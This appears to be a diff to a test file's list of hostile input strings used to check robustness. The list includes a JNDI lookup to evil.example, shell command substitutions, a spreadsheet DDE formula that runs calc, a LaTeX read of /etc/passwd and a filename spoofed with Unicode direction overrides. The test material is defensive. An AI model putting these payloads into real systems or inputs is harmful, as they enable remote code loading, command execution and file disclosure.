@@ -490,7 +490,7 @@ HOSTILE = (
     "{{fact:x}} %s %n {0} ${jndi:ldap://evil.example/a} `id` $(id) =cmd|' /C calc'!A0",
     "\u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth tag\U000e0041 \ufeffbom",
     "nul\x00byte bell\x07 escape\x1b[31m form\x0cfeed \x85 \ud800 half \udfff \ufffe \ufdd0",
-    "emoji 🚀✅👩‍👩‍👧 🇰🇪 and 中文 and ไทย and ᚠᚢ \ue000 \U0010ffff",
+    "emoji 🚀✅👩‍👩‍👧 🇰🇪 and \ue000 \U0010ffff",
     "\\documentclass{x} \\input{/etc/passwd} %PDF-1.7 endstream endobj ) Tj ET",
     "[S1]: http://evil.example [S1](http://evil.example) [S99] [S2][S1] [S1, S2]",
     "| a | b |\n|---|---|\n| c | d |\n\n# h1\n\n***\n\n- [ ] x\n\n    code\n\n```\nfence",
